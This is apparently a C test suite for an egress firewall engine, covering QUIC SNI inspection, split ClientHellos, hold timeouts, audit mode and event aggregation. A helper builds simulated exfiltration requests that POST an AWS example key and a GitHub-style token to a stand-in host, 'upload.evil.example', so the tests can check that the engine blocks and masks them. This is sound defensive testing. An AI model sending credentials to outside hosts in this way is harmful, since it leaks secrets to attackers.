	n = build_udp(pkt, "192.0.2.1", "198.51.100.10", 5001, 443, "\xc0\x00\x00\x00\x01", 5);
	uint64_t c = feed(h, pkt, n, 4);
	assert_int_equal(h->vlast[c], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_PROTOCOL_NOT_ALLOWED);
	assert_true(last_ev(h)->bits & IND_QUIC);
	assert_string_equal(last_ev(h)->detail, "quic_policy_deny");
	/* UDP to an allowed range */
	n = build_udp(pkt, "192.0.2.1", "203.0.113.9", 5002, 443, "x", 1);
	uint64_t d = feed(h, pkt, n, 5);
	assert_int_equal(h->vlast[d], VERDICT_DENY); /* quic policy deny wins on 443 */
	teardown_h(h);
}

static void quic_tweak(struct engine_config *c)
{
	c->quic_inspect = true;
}

static void test_quic_inspect_garbage(void **state)
{
	(void)state;
	struct h *h = setup_with(quic_tweak);
	uint8_t pkt[256];
	/* short header: not an Initial */
	size_t n = build_udp(pkt, "192.0.2.1", "198.51.100.10", 5001, 443, "\x40\x01\x02\x03", 4);
	uint64_t a = feed(h, pkt, n, 1);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_PROTOCOL_NOT_ALLOWED);
	teardown_h(h);
}

/* The RFC 9001 A.2 client Initial (SNI example.com), from the quic corpus. */
static size_t load_rfc_initial(uint8_t *buf, size_t cap)
{
	FILE *f = fopen(SRCDIR "/tests/fuzz/corpus/quic/rfc9001-a2-initial", "rb");
	if (!f)
		return 0;
	size_t n = fread(buf, 1, cap, f);
	fclose(f);
	return n;
}

static void test_quic_inspect_sni(void **state)
{
	(void)state;
	struct h *h = setup_with(quic_tweak);
	uint8_t dgram[1500], pkt[1600];
	size_t dn = load_rfc_initial(dgram, sizeof dgram);
	/* The corpus is part of the tree: a missing or short file is a failure,
	 * not a skip (this is the only engine-level QUIC SNI test). */
	if (dn != 1200)
		fail_msg("tests/fuzz/corpus/quic/rfc9001-a2-initial: read %zu bytes, want 1200", dn);
	/* bound: allowed on the QUIC SNI */
	bind_name(h, "example.com", "198.51.100.10");
	size_t n = build_udp(pkt, "192.0.2.1", "198.51.100.10", 5001, 443, dgram, dn);
	uint64_t a = feed(h, pkt, n, 1);
	assert_int_equal(h->vlast[a], VERDICT_ALLOW);
	assert_int_equal(last_ev(h)->src, NAME_SOURCE_QUIC_SNI);
	assert_string_equal(last_ev(h)->name, "example.com");
	assert_int_equal(last_ev(h)->rule_line, 10);
	/* same hello to an address DNS never gave for it */
	n = build_udp(pkt, "192.0.2.1", "198.51.100.11", 5002, 443, dgram, dn);
	uint64_t b = feed(h, pkt, n, 2);
	assert_int_equal(h->vlast[b], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_SNI_IP_MISMATCH);
	assert_int_equal(last_ev(h)->src, NAME_SOURCE_QUIC_SNI);
	teardown_h(h);
}


/* ---- QUIC Initials of our own, spread over datagrams ---- */

/* HKDF-Expand-Label with an empty context, one HMAC block (outputs <= 32). */
static void q_expand(const uint8_t prk[32], const char *label, uint8_t *out, size_t len)
{
	uint8_t info[64], t[32];
	size_t n = 0, ll = strlen(label);
	unsigned tl = 0;
	info[n++] = 0;
	info[n++] = (uint8_t)len;
	info[n++] = (uint8_t)(6 + ll);
	memcpy(info + n, "tls13 ", 6);
	n += 6;
	memcpy(info + n, label, ll);
	n += ll;
	info[n++] = 0;
	info[n++] = 1;
	assert_non_null(HMAC(EVP_sha256(), prk, 32, info, n, t, &tl));
	memcpy(out, t, len);
}

static const uint8_t DCID_A[8] = {0xa1, 0xa2, 0xa3, 0xa4, 0xa5, 0xa6, 0xa7, 0xa8};
static const uint8_t DCID_B[8] = {0xb1, 0xb2, 0xb3, 0xb4, 0xb5, 0xb6, 0xb7, 0xb8};

/*
 * A v1 client Initial datagram of 1200 bytes: 1100|0011 v1 dcid<8> scid<0>
 * token<0> length(2) pn(4) | CRYPTO(off, data) PADDING... | tag(16).
 */
static size_t q_initial(const uint8_t *dcid, uint32_t pn, size_t off, const uint8_t *data,
                        size_t len, uint8_t *out)
{
	static const uint8_t salt[] = {0x38, 0x76, 0x2c, 0xf7, 0xf5, 0x59, 0x34, 0xb3, 0x4d, 0x17,
	                               0x9a, 0xe6, 0xa4, 0xc8, 0x0c, 0xad, 0xcc, 0xbb, 0x7f, 0x0a};
	uint8_t initial[32], client[32], key[16], iv[12], hp[16], plain[1200] = {0}, mask[16];
	unsigned l = 0;
	assert_non_null(HMAC(EVP_sha256(), salt, 20, dcid, 8, initial, &l));
	q_expand(initial, "client in", client, 32);
	q_expand(client, "quic key", key, 16);
	q_expand(client, "quic iv", iv, 12);
	q_expand(client, "quic hp", hp, 16);

	size_t h = 0, hdr_len = 1 + 4 + 1 + 8 + 1 + 1 + 2 + 4;
	size_t plen = 1200 - hdr_len - 16, length = 4 + plen + 16;
	assert_true(5 + len <= plen && off < 16384);
	plain[0] = 0x06;
	put16(plain + 1, (uint16_t)(0x4000 | off));
	put16(plain + 3, (uint16_t)(0x4000 | len));
	memcpy(plain + 5, data, len);
	out[h++] = 0xc3;
	put32(out + h, 1);
	h += 4;
	out[h++] = 8;
	memcpy(out + h, dcid, 8);
	h += 8;
	out[h++] = 0;
	out[h++] = 0;
	put16(out + h, (uint16_t)(0x4000 | length));
	h += 2;
	put32(out + h, pn);
	h += 4;
	uint8_t nonce[12];
	memcpy(nonce, iv, 12);
	for (int i = 0; i < 4; i++)
		nonce[11 - i] ^= (uint8_t)(pn >> (8 * i));
	int n = 0;
	EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
	assert_int_equal(EVP_EncryptInit_ex(c, EVP_aes_128_gcm(), NULL, key, nonce), 1);
	assert_int_equal(EVP_EncryptUpdate(c, NULL, &n, out, (int)h), 1);
	assert_int_equal(EVP_EncryptUpdate(c, out + h, &n, plain, (int)plen), 1);
	assert_int_equal(EVP_EncryptFinal_ex(c, out + h + n, &n), 1);
	assert_int_equal(EVP_CIPHER_CTX_ctrl(c, EVP_CTRL_GCM_GET_TAG, 16, out + h + plen), 1);
	EVP_CIPHER_CTX_free(c);
	c = EVP_CIPHER_CTX_new();
	assert_int_equal(EVP_EncryptInit_ex(c, EVP_aes_128_ecb(), NULL, hp, NULL), 1);
	EVP_CIPHER_CTX_set_padding(c, 0);
	assert_int_equal(EVP_EncryptUpdate(c, mask, &n, out + h, 16), 1);
	EVP_CIPHER_CTX_free(c);
	out[0] ^= mask[0] & 0x0f;
	for (int i = 0; i < 4; i++)
		out[h - 4 + i] ^= mask[1 + i];
	assert_int_equal(h + plen + 16, 1200);
	return 1200;
}

/* A ~1.5 KB ClientHello (bare handshake message) for sni, and two Initials carrying it. */
struct qsplit {
	uint8_t d1[1300], d2[1300];
	size_t n1, n2;
};

static void q_split(struct qsplit *q, const char *sni, const uint8_t *dcid2)
{
	uint8_t rec[2100];
	size_t rl = build_hello(rec, sni, false, 1400, 1);
	const uint8_t *hs = rec + 5; /* no record header in QUIC */
	size_t hl = rl - 5, cut = 1000;
	assert_true(hl > 1300);
	uint8_t d[1300];
	size_t n = q_initial(DCID_A, 0, 0, hs, cut, d);
	q->n1 = build_udp(q->d1, "192.0.2.1", "198.51.100.10", 5100, 443, d, n);
	n = q_initial(dcid2 ? dcid2 : DCID_A, 1, cut, hs + cut, hl - cut, d);
	q->n2 = build_udp(q->d2, "192.0.2.1", "198.51.100.10", 5100, 443, d, n);
}

static void test_quic_split_allowed(void **state)
{
	(void)state;
	struct h *h = setup_with(quic_tweak);
	struct qsplit q;
	bind_name(h, "api.example.com", "198.51.100.10");
	q_split(&q, "api.example.com", NULL);
	uint64_t a = feed(h, q.d1, q.n1, 1);
	assert_int_equal(h->vcount[a], 0); /* held: the hello goes on */
	assert_int_equal(h->nev, 0);
	/* the same datagram again: held too, changes nothing */
	uint64_t a2 = feed(h, q.d1, q.n1, 2);
	assert_int_equal(h->vcount[a2], 0);
	/* a 0-RTT packet of the flow: held, not read */
	uint8_t zr[64] = {0xd0, 0, 0, 0, 1}, pkt[128];
	memset(zr + 5, 0x5a, sizeof zr - 5);
	size_t zn = build_udp(pkt, "192.0.2.1", "198.51.100.10", 5100, 443, zr, sizeof zr);
	uint64_t z = feed(h, pkt, zn, 3);
	assert_int_equal(h->vcount[z], 0);
	uint64_t b = feed(h, q.d2, q.n2, 4);
	for (uint64_t x = a; x <= b; x++) {
		assert_int_equal(h->vcount[x], 1);
		assert_int_equal(h->vlast[x], VERDICT_ALLOW);
	}
	assert_int_equal(h->nev, 1);
	assert_int_equal(last_ev(h)->kind, EVENT_ALLOW);
	assert_int_equal(last_ev(h)->src, NAME_SOURCE_QUIC_SNI);
	assert_string_equal(last_ev(h)->name, "api.example.com");
	assert_int_equal(last_ev(h)->rule_line, 1);
	/* later datagrams go by the decision */
	uint64_t c = feed(h, pkt, zn, 5);
	assert_one_verdict(h, c, VERDICT_ALLOW);
	assert_int_equal(h->nev, 1);
	teardown_h(h);

	/* out of order: the second half first */
	h = setup_with(quic_tweak);
	bind_name(h, "api.example.com", "198.51.100.10");
	b = feed(h, q.d2, q.n2, 1);
	assert_int_equal(h->vcount[b], 0);
	a = feed(h, q.d1, q.n1, 2);
	assert_one_verdict(h, a, VERDICT_ALLOW);
	assert_one_verdict(h, b, VERDICT_ALLOW);
	assert_int_equal(h->nev, 1);
	assert_int_equal(last_ev(h)->kind, EVENT_ALLOW);
	teardown_h(h);
}

static void test_quic_split_denied(void **state)
{
	(void)state;
	struct h *h = setup_with(quic_tweak);
	struct qsplit q;
	bind_name(h, "api.example.com", "198.51.100.10");
	q_split(&q, "evil.example.org", NULL);
	uint64_t a = feed(h, q.d1, q.n1, 1);
	assert_int_equal(h->vcount[a], 0);
	uint64_t b = feed(h, q.d2, q.n2, 2);
	assert_one_verdict(h, a, VERDICT_DENY);
	assert_one_verdict(h, b, VERDICT_DENY);
	assert_int_equal(h->nev, 1);
	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
	assert_string_equal(last_ev(h)->name, "evil.example.org");
	assert_int_equal(last_ev(h)->src, NAME_SOURCE_QUIC_SNI);
	assert_true(last_ev(h)->bits & IND_QUIC);
	assert_true(last_ev(h)->bits & IND_SPLIT_HELLO);
	teardown_h(h);

	/* the whole hello in one Initial: quic, but not split_hello */
	h = setup_with(quic_tweak);
	uint8_t rec[600], d[1300], pkt[1400];
	size_t rl = build_hello(rec, "evil.example.org", false, 0, 1);
	size_t n = q_initial(DCID_A, 0, 0, rec + 5, rl - 5, d);
	n = build_udp(pkt, "192.0.2.1", "198.51.100.10", 5101, 443, d, n);
	a = feed(h, pkt, n, 1);
	assert_one_verdict(h, a, VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
	assert_true(last_ev(h)->bits & IND_QUIC);
	assert_false(last_ev(h)->bits & IND_SPLIT_HELLO);
	teardown_h(h);
}

static void test_quic_split_dcid_and_timeout(void **state)
{
	(void)state;
	struct h *h = setup_with(quic_tweak);
	struct qsplit q;
	bind_name(h, "api.example.com", "198.51.100.10");
	/* the second Initial opens under its own DCID, which is not the first one's */
	q_split(&q, "api.example.com", DCID_B);
	uint64_t a = feed(h, q.d1, q.n1, 1);
	assert_int_equal(h->vcount[a], 0);
	uint64_t b = feed(h, q.d2, q.n2, 2);
	assert_one_verdict(h, a, VERDICT_DENY);
	assert_one_verdict(h, b, VERDICT_DENY);
	assert_int_equal(h->nev, 1);
	assert_int_equal(last_ev(h)->reason, REASON_MALFORMED);
	assert_string_equal(last_ev(h)->detail, "dcid_mismatch");
	assert_true(last_ev(h)->bits & IND_QUIC);
	teardown_h(h);

	/* the second half never comes: the hold times out */
	h = setup_with(quic_tweak);
	bind_name(h, "api.example.com", "198.51.100.10");
	q_split(&q, "api.example.com", NULL);
	a = feed(h, q.d1, q.n1, 1);
	engine_tick(h->e, 1 + S);
	assert_int_equal(h->vcount[a], 0);
	engine_tick(h->e, 1 + 3 * S);
	assert_one_verdict(h, a, VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
	assert_string_equal(last_ev(h)->detail, "hold_timeout");
	assert_true(last_ev(h)->bits & IND_QUIC);
	teardown_h(h);
}

static void small_hold(struct engine_config *c)
{
	c->hold_segments = 3;
}

static void test_hold_bounds(void **state)
{
	(void)state;
	struct h *h = setup_with(small_hold);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	/* timeout: half a hello, then silence */
	syn(h, cl, sv, 40000, 443, 1 * S);
	uint64_t a = seg(h, cl, sv, 40000, 443, 0, hello, n / 2, 1 * S);
	engine_tick(h->e, 2 * S);
	assert_int_equal(h->vcount[a], 0);
	engine_tick(h->e, 3 * S + 1);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
	assert_string_equal(last_ev(h)->detail, "hold_timeout");
	/* one-byte segments beyond hold_segments */
	syn(h, cl, sv, 40001, 443, 4 * S);
	uint64_t ids[4];
	for (size_t i = 0; i < 4; i++)
		ids[i] = seg(h, cl, sv, 40001, 443, i, hello + i, 1, 4 * S);
	for (size_t i = 0; i < 4; i++)
		assert_int_equal(h->vlast[ids[i]], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
	assert_string_equal(last_ev(h)->detail, "hold_segments");
	/* past hold_bytes */
	syn(h, cl, sv, 40002, 443, 5 * S);
	uint64_t far = seg(h, cl, sv, 40002, 443, 20000, "x", 1, 5 * S);
	assert_int_equal(h->vlast[far], VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "hold_bytes");
	teardown_h(h);
}

static void test_one_byte_segments_allowed(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	/* first 20 bytes one by one, the rest in one go: within 24 segments */
	syn(h, cl, sv, 40000, 443, 1);
	uint64_t ids[21];
	for (size_t i = 0; i < 20; i++)
		ids[i] = seg(h, cl, sv, 40000, 443, i, hello + i, 1, 2);
	ids[20] = seg(h, cl, sv, 40000, 443, 20, hello + 20, n - 20, 3);
	for (size_t i = 0; i < 21; i++)
		assert_int_equal(h->vlast[ids[i]], VERDICT_ALLOW);
	teardown_h(h);
}

static void drop_partial_tweak(struct engine_config *c)
{
	c->drop_partial = true;
}

/* Host mode: partial segments are recorded and dropped, never delivered. */
static void test_drop_partial(void **state)
{
	(void)state;
	struct h *h = setup_with(drop_partial_tweak);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	size_t third = n / 3;
	syn(h, cl, sv, 40000, 443, 1);
	uint64_t a = seg(h, cl, sv, 40000, 443, 0, hello, third, 2);
	uint64_t b = seg(h, cl, sv, 40000, 443, third, hello + third, third, 2);
	assert_int_equal(h->vcount[a], 1);
	assert_int_equal(h->vlast[a], VERDICT_DROP);
	assert_int_equal(h->vlast[b], VERDICT_DROP);
	/* the client retransmits the first piece: a duplicate, dropped again */
	uint64_t a2 = seg(h, cl, sv, 40000, 443, 0, hello, third, 3);
	assert_int_equal(h->vlast[a2], VERDICT_DROP);
	uint64_t c = seg(h, cl, sv, 40000, 443, 2 * third, hello + 2 * third, n - 2 * third, 3);
	assert_int_equal(h->vlast[c], VERDICT_ALLOW);
	assert_int_equal(last_ev(h)->kind, EVENT_ALLOW);
	/* the dropped pieces come again once allowed */
	uint64_t a3 = seg(h, cl, sv, 40000, 443, 0, hello, third, 4);
	assert_int_equal(h->vlast[a3], VERDICT_ALLOW);
	struct engine_stats st;
	engine_stats(h->e, &st);
	assert_int_equal(st.held_packets, 0);
	assert_int_equal(st.held_bytes, 0);

	/* a denied name: every piece dropped or denied, none passed */
	n = build_hello(hello, "evil.example.net", false, 0, 1);
	syn(h, cl, sv, 40001, 443, 5);
	uint64_t d = seg(h, cl, sv, 40001, 443, 0, hello, n / 2, 5);
	uint64_t e = seg(h, cl, sv, 40001, 443, n / 2, hello + n / 2, n - n / 2, 5);
	assert_int_equal(h->vlast[d], VERDICT_DROP);
	assert_int_equal(h->vlast[e], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
	assert_true(last_ev(h)->bits & IND_SPLIT_HELLO);
	/* never completed: incomplete at the hold timeout, nothing left held */
	syn(h, cl, sv, 40002, 443, 6);
	uint64_t f = seg(h, cl, sv, 40002, 443, 0, hello, 10, 6);
	assert_int_equal(h->vlast[f], VERDICT_DROP);
	engine_tick(h->e, 6 + 3 * S);
	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
	teardown_h(h);
}

static void test_tfo(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint8_t hello[2048], pkt[4096];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	size_t len = build_tcp(pkt, cl, sv, 40000, 443, ISN, SYN, hello, n);
	uint64_t a = feed(h, pkt, len, 1);
	assert_one_verdict(h, a, VERDICT_ALLOW);
	/* SYN carrying a forbidden SNI: never PASSed */
	n = build_hello(hello, "evil.example.net", false, 0, 1);
	len = build_tcp(pkt, cl, sv, 40001, 443, ISN, SYN, hello, n);
	uint64_t b = feed(h, pkt, len, 2);
	assert_int_equal(h->vlast[b], VERDICT_DENY);
	teardown_h(h);
}

static void verify_tweak(struct engine_config *c)
{
	c->unknown_ip = UNKNOWN_IP_VERIFY;
}

static void test_verify_mode(void **state)
{
	(void)state;
	struct h *h = setup_with(verify_tweak);
	const char *cl = "192.0.2.1";
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	uint64_t s1 = syn(h, cl, "198.51.100.20", 40000, 443, 1);
	assert_int_equal(h->vlast[s1], VERDICT_PASS);
	uint64_t s2 = syn(h, cl, "198.51.100.21", 40001, 443, 1);
	assert_int_equal(h->vlast[s2], VERDICT_PASS);
	/* no name entry on this port at all */
	uint64_t s3 = syn(h, cl, "198.51.100.21", 40002, 8443, 1);
	assert_int_equal(h->vlast[s3], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_PORT_NOT_ALLOWED);
	unsigned nev = h->nev;
	uint64_t a = seg(h, cl, "198.51.100.20", 40000, 443, 0, hello, n, 2);
	uint64_t b = seg(h, cl, "198.51.100.21", 40001, 443, 0, hello, n, 2);
	assert_int_equal(h->vcount[a], 0);
	assert_int_equal(h->vcount[b], 0);
	assert_int_equal(h->nres, 1); /* coalesced */
	assert_string_equal(h->resolves[0], "api.example.com");
	/* more data while waiting is held as well */
	uint64_t c = seg(h, cl, "198.51.100.20", 40000, 443, n, "GET", 3, 3);
	assert_int_equal(h->vcount[c], 0);
	struct dns_addr ans[2] = {{A("198.51.100.20"), 60}, {A("198.51.100.30"), 60}};
	engine_resolved(h->e, "api.example.com", ans, 2, 4);
	assert_int_equal(h->vlast[a], VERDICT_ALLOW);
	assert_int_equal(h->vlast[c], VERDICT_ALLOW);
	assert_int_equal(h->vlast[b], VERDICT_DENY);
	assert_int_equal(h->nev, nev + 2);
	/* one allow, one mismatch, in either order */
	assert_int_equal(h->ev[nev].reason + h->ev[nev + 1].reason, REASON_SNI_IP_MISMATCH);
	assert_int_equal(h->ev[nev].kind + h->ev[nev + 1].kind, EVENT_ALLOW + EVENT_DENY);
	/* the answer was bound: a new flow to .30 is allowed without asking */
	syn(h, cl, "198.51.100.30", 40003, 443, 5);
	uint64_t d = seg(h, cl, "198.51.100.30", 40003, 443, 0, hello, n, 6);
	assert_int_equal(h->vlast[d], VERDICT_ALLOW);
	assert_int_equal(h->nres, 1);
	/* resolution never answered: incomplete at the hold timeout */
	n = build_hello(hello, "other.example.com", false, 0, 1);
	syn(h, cl, "198.51.100.40", 40004, 443, 10 * S);
	uint64_t e = seg(h, cl, "198.51.100.40", 40004, 443, 0, hello, n, 10 * S);
	assert_int_equal(h->nres, 2);
	engine_tick(h->e, 13 * S);
	assert_int_equal(h->vlast[e], VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "resolve_timeout");
	teardown_h(h);
}

static void audit_tweak(struct engine_config *c)
{
	c->enforce = false;
}

static void test_audit(void **state)
{
	(void)state;
	struct h *h = setup_with(audit_tweak);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	uint8_t hello[2048];
	size_t n;
	/* a SYN that would be denied passes; the first payload names the flow */
	unsigned nev0 = h->nev;
	uint64_t a = syn(h, cl, "198.51.100.99", 40000, 443, 1);
	assert_int_equal(h->vlast[a], VERDICT_PASS);
	assert_int_equal(h->nev, nev0);
	n = build_hello(hello, "evil.example.net", false, 0, 1);
	uint64_t a2 = seg(h, cl, "198.51.100.99", 40000, 443, 0, hello, n, 1);
	assert_int_equal(h->vlast[a2], VERDICT_ALLOW);
	assert_int_equal(last_ev(h)->kind, EVENT_DENY);
	assert_false(last_ev(h)->enforced);
	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
	assert_string_equal(last_ev(h)->name, "evil.example.net");
	assert_true(last_ev(h)->bits & IND_IP_LITERAL);
	/* an allowed name to an address it was never bound to: still a deny */
	n = build_hello(hello, "api.example.com", false, 0, 1);
	syn(h, cl, "198.51.100.98", 40009, 443, 1);
	uint64_t a3 = seg(h, cl, "198.51.100.98", 40009, 443, 0, hello, n, 1);
	assert_int_equal(h->vlast[a3], VERDICT_ALLOW);
	assert_int_equal(last_ev(h)->kind, EVENT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_SNI_IP_MISMATCH);
	assert_false(last_ev(h)->enforced);
	/* no payload at all: the SYN's reason is logged at the hold timeout */
	uint64_t a4 = syn(h, cl, "198.51.100.97", 40010, 443, 1);
	assert_int_equal(h->vlast[a4], VERDICT_PASS);
	engine_tick(h->e, 1 + 3 * S);
	assert_int_equal(last_ev(h)->kind, EVENT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_IP_NOT_ALLOWED);
	assert_false(last_ev(h)->enforced);
	bind_name(h, "api.example.com", sv);
	uint64_t s = syn(h, cl, sv, 40001, 443, 2);
	assert_int_equal(h->vlast[s], VERDICT_PASS);
	n = build_hello(hello, "evil.example.net", false, 0, 1);
	uint64_t b = seg(h, cl, sv, 40001, 443, 0, hello, n / 2, 3);
	assert_int_equal(h->vlast[b], VERDICT_PASS); /* nothing waits in audit mode */
	uint64_t c = seg(h, cl, sv, 40001, 443, n / 2, hello + n / 2, n - n / 2, 4);
	assert_int_equal(h->vlast[c], VERDICT_ALLOW);
	assert_int_equal(last_ev(h)->kind, EVENT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
	assert_false(last_ev(h)->enforced);
	struct engine_stats st;
	engine_stats(h->e, &st);
	assert_int_equal(st.held_packets, 0);
	teardown_h(h);
}

static void tiny_total(struct engine_config *c)
{
	c->hold_bytes_total = 100;
}

static void test_hold_bytes_total(void **state)
{
	(void)state;
	struct h *h = setup_with(tiny_total);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint8_t hello[2048];
	build_hello(hello, "api.example.com", false, 0, 1);
	syn(h, cl, sv, 40000, 443, 1);
	syn(h, cl, sv, 40001, 443, 1);
	uint64_t a = seg(h, cl, sv, 40000, 443, 0, hello, 60, 2);
	assert_int_equal(h->vcount[a], 0);
	/* the flow that would push the engine past its total is denied */
	uint64_t b = seg(h, cl, sv, 40001, 443, 0, hello, 60, 3);
	assert_int_equal(h->vlast[b], VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "hold_bytes_total");
	assert_int_equal(h->vcount[a], 0);
	struct engine_stats st;
	engine_stats(h->e, &st);
	assert_int_equal(st.held_bytes, 60);
	assert_int_equal(st.held_packets, 1);
	teardown_h(h);
}

static void test_audit_timeout(void **state)
{
	(void)state;
	struct h *h = setup_with(audit_tweak);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	syn(h, cl, sv, 40000, 443, 1);
	uint64_t a = seg(h, cl, sv, 40000, 443, 0, hello, n / 2, 2);
	assert_int_equal(h->vlast[a], VERDICT_PASS);
	engine_tick(h->e, 3 * S);
	assert_int_equal(last_ev(h)->reason, REASON_INCOMPLETE);
	assert_false(last_ev(h)->enforced);
	/* the rest of the flow is let through */
	uint64_t b = seg(h, cl, sv, 40000, 443, n / 2, hello + n / 2, n - n / 2, 3 * S);
	assert_int_equal(h->vlast[b], VERDICT_ALLOW);
	teardown_h(h);
}

static void test_aggregation_and_beacon(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	/* three denials of the same destination within 1 s, different source ports */
	for (uint16_t i = 0; i < 3; i++)
		syn(h, "192.0.2.1", "198.51.100.9", (uint16_t)(40000 + i), 443, 1 + i);
	/* the first; the second aggregated; the third (in 60 s) is a beacon:
	 * a new indicator, so a line of its own (issue 12) */
	assert_int_equal(h->nev, 2);
	assert_int_equal(h->ev[0].count, 1);
	assert_true(h->ev[1].bits & IND_BEACON);
	engine_tick(h->e, S / 2);
	assert_int_equal(h->nev, 2);
	engine_tick(h->e, 2 * S);
	assert_int_equal(h->nev, 3);
	assert_int_equal(h->ev[2].count, 1);
	assert_true(h->ev[2].aggregated);
	assert_false(h->ev[2].bits & IND_BEACON);
	assert_int_equal(h->ev[2].reason, REASON_IP_NOT_ALLOWED);
	/* spaced out: separate events, still a beacon */
	syn(h, "192.0.2.1", "198.51.100.9", 41000, 443, 3 * S);
	assert_int_equal(h->nev, 4);
	assert_true(h->ev[3].bits & IND_BEACON);
	teardown_h(h);
}

/* Issue 12: aggregation loses nothing. Events that differ only in their
 * credentials are lines of their own; true repeats carry count and times. */
static void post_cred(struct h *h, const char *sv, uint16_t sport, const char *body, uint64_t t)
{
	char req[512];
	snprintf(req, sizeof req,
	         "POST /u HTTP/1.1\r\nHost: upload.evil.example\r\nContent-Length: %zu\r\n\r\n%s",
	         strlen(body), body);
	syn(h, "192.0.2.1", sv, sport, 80, t);
	uint64_t a = seg(h, "192.0.2.1", sv, sport, 80, 0, req, strlen(req), t);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
}

#define AWS_BODY "key=AKIAIOSFODNN7EXAMPLE"
#define GH_BODY "t=ghp_Qx7RmT2vLw9KpZ4nYc8HsJ3fBd6GaE1uVo5i"

static void test_aggregation_keeps_credentials(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *sv = "198.51.100.80", *sv2 = "198.51.100.81";
	bind_name(h, "www.example.com", sv); /* the SYN passes, the Host decides */
	bind_name(h, "www.example.com", sv2);
	/* the AWS key, then a GitHub token to the same host: two lines */
	post_cred(h, sv, 40000, AWS_BODY, 1 * S);
	post_cred(h, sv, 40001, GH_BODY, 1 * S + S / 10);
	assert_int_equal(h->nev, 2);
	assert_int_equal(h->ev[0].ctype, CRED_AWS_ACCESS_KEY);
	assert_int_equal(h->ev[1].ctype, CRED_GITHUB_TOKEN);
	assert_false(h->ev[0].aggregated || h->ev[1].aggregated);
	/* elsewhere: the same key twice aggregates; another key of the same type
	 * (another masked form) is a line of its own */
	post_cred(h, sv2, 41000, AWS_BODY, 1 * S + 2 * S / 10);
	post_cred(h, sv2, 41001, AWS_BODY, 1 * S + 3 * S / 10);
	assert_int_equal(h->nev, 3);
	post_cred(h, sv2, 41002, "key=AKIAZZZZZZZZZZZZQQQQ", 1 * S + 4 * S / 10);
	assert_int_equal(h->nev, 4);
	assert_string_equal(h->ev[3].masked, "AKIA\xe2\x80\xa6QQQQ");
	engine_tick(h->e, 3 * S);
	assert_int_equal(h->nev, 5);
	const struct evrec *agg = &h->ev[4];
	assert_true(agg->aggregated);
	assert_int_equal(agg->count, 1);
	assert_int_equal(agg->ctype, CRED_AWS_ACCESS_KEY);
	assert_string_equal(agg->masked, "AKIA\xe2\x80\xa6MPLE");
	assert_int_equal(agg->first_ns, 1 * S + 3 * S / 10);
	assert_int_equal(agg->last_ns, 1 * S + 3 * S / 10);
	teardown_h(h);
}

static void test_aggregation_times(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	/* six denials of one destination, 100 ms apart: the first; the second
	 * (aggregated); the third flagged beacon (a new indicator: a new line),
	 * the fourth to sixth aggregated into it */
	for (uint16_t i = 0; i < 6; i++)
		syn(h, "192.0.2.1", "198.51.100.9", (uint16_t)(40000 + i), 443, S + i * (S / 10));
	assert_int_equal(h->nev, 2);
	assert_false(h->ev[0].bits & IND_BEACON);
	assert_true(h->ev[1].bits & IND_BEACON);
	engine_tick(h->e, 3 * S);
	assert_int_equal(h->nev, 4);
	unsigned total = 0;
	for (unsigned i = 0; i < h->nev; i++) {
		total += h->ev[i].count;
		if (!h->ev[i].aggregated)
			continue;
		if (h->ev[i].bits & IND_BEACON) {
			assert_int_equal(h->ev[i].count, 3);
			assert_int_equal(h->ev[i].first_ns, S + 3 * (S / 10));
			assert_int_equal(h->ev[i].last_ns, S + 5 * (S / 10));
		} else {
			assert_int_equal(h->ev[i].count, 1);
			assert_int_equal(h->ev[i].first_ns, S + S / 10);
		}
	}
	assert_true(h->ev[2].aggregated && h->ev[3].aggregated);
	assert_int_equal(total, 6);
	teardown_h(h);
}

/* Issue 12: the cloud metadata guard ([egressd] metadata = deny). */
